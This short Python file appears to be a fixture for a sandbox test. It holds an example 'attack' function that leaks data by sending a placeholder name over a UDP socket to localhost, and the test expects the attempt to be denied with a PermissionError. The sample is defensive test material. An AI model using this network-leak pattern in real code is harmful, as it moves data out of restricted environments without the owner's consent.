"""Leak data through a name lookup."""

from __future__ import annotations

ATTACK = """
def attack(v):
    link = socket.socket(type=socket.SOCK_DGRAM)
    link.connect(('127.0.0.1', v['udp']))
    link.send(b'secret.example')
"""
DENIED = "PermissionError"
HARM = "udp"
